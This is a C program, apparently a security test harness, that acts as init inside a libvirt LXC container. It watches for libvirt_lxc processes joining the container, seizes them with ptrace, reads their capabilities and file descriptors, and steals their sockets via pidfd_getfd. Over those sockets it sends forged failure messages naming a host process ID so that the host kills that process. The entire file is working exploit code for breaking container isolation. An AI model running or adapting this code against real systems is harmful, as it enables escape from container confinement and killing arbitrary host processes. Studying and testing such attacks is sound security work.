/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * Init of a container: looks for processes that join the container but have not
 * executed their program yet, which run from a memfd, and tries to take them
 * over.
 *
 *   exec_attack OUT VICTIM
 *
 * Over every socket that such a process holds, it tells the other end that the
 * program is process VICTIM of the host and has failed, so that it is killed.
 *
 * OUT has a line for each that was seen: "seen CAPPRM DUMPED", where DUMPED is
 * OK or the error of ptrace(2), followed by the descriptors that could be read.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char line[65536];

static void
add(const char *text)
{
    strncat(line, text, sizeof(line) - strlen(line) - 1);
}

static void
addDescriptors(const char *pid)
{
    char path[300];
    DIR *directory;
    struct dirent *entry;

    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    if (!(directory = opendir(path)))
        return;

    while ((entry = readdir(directory))) {
        char name[600];
        char link[300];
        ssize_t length;

        snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
        length = readlink(name, link, sizeof(link) - 1);
        if (length < 0)
            continue;
        link[length] = '\0';
        add(" ");
        add(link);
    }
    closedir(directory);
}

static void
addCapabilities(const char *pid)
{
    char path[300];
    char text[4096];
    char *found;
    int fd;
    ssize_t length;

    snprintf(path, sizeof(path), "/proc/%s/status", pid);
    if ((fd = open(path, O_RDONLY)) < 0)
        return;
    length = read(fd, text, sizeof(text) - 1);
    close(fd);
    if (length <= 0)
        return;
    text[length] = '\0';
    if ((found = strstr(text, "CapPrm:\t"))) {
        found[8 + 16] = '\0';
        add(found + 8);
    }
}

/* Whether the process still runs from the sealed copy of libvirt_lxc. */
static int
joins(const char *pid)
{
    char path[300];
    char link[300];
    char comm[64];
    ssize_t length;
    int fd;

    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    length = readlink(path, link, sizeof(link) - 1);
    if (length > 0) {
        link[length] = '\0';
        return strstr(link, "memfd") != NULL;
    }

    /* The link of a process that is not dumpable cannot be read. */
    snprintf(path, sizeof(path), "/proc/%s/comm", pid);
    if ((fd = open(path, O_RDONLY)) < 0)
        return 0;
    length = read(fd, comm, sizeof(comm) - 1);
    close(fd);
    if (length <= 0)
        return 0;
    comm[length] = '\0';
    return strstr(comm, "lxc") != NULL;
}

/* Not all may be sockets. */
static void
spoof(pid_t number, pid_t victim)
{
    static const char failure[] = "fspoofed\0\0\0\0";
    int process = syscall(SYS_pidfd_open, number, 0);
    int i;

    for (i = 3; process >= 0 && i < 64; i++) {
        int fd = syscall(SYS_pidfd_getfd, process, i, 0);

        if (fd < 0)
            continue;
        send(fd, &victim, sizeof(victim), MSG_NOSIGNAL);
        send(fd, failure, sizeof(failure), MSG_NOSIGNAL);
        close(fd);
    }
    if (process >= 0)
        close(process);
}

static void
attack(const char *pid, int out, pid_t victim)
{
    pid_t number = atoi(pid);
    long rc;

    if (number == 1 || !joins(pid))
        return;

    snprintf(line, sizeof(line), "seen ");
    rc = ptrace(PTRACE_SEIZE, number, NULL, NULL);
    addCapabilities(pid);
    add(" ");
    add(rc == 0 ? "OK" : strerrorname_np(errno));
    addDescriptors(pid);
    add("\n");
    if (joins(pid) && write(out, line, strlen(line)) < 0)
        _exit(1);
    if (rc == 0) {
        ptrace(PTRACE_INTERRUPT, number, NULL, NULL);
        waitpid(number, NULL, __WALL);
        if (joins(pid))
            spoof(number, victim);
        kill(number, SIGKILL);
        waitpid(number, NULL, __WALL);
    }
}

int
main(int argc, char **argv)
{
    int out =
        open(argc > 1 ? argv[1] : "/out", O_WRONLY | O_APPEND | O_CREAT, 0666);

    if (out < 0 || write(out, "ready\n", 6) != 6)
        return 1;

    for (;;) {
        DIR *directory = opendir("/proc");
        struct dirent *entry;

        while (directory && (entry = readdir(directory))) {
            if (isdigit((unsigned char)entry->d_name[0]))
                attack(entry->d_name, out, argc > 2 ? atoi(argv[2]) : 0);
        }
        if (directory)
            closedir(directory);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
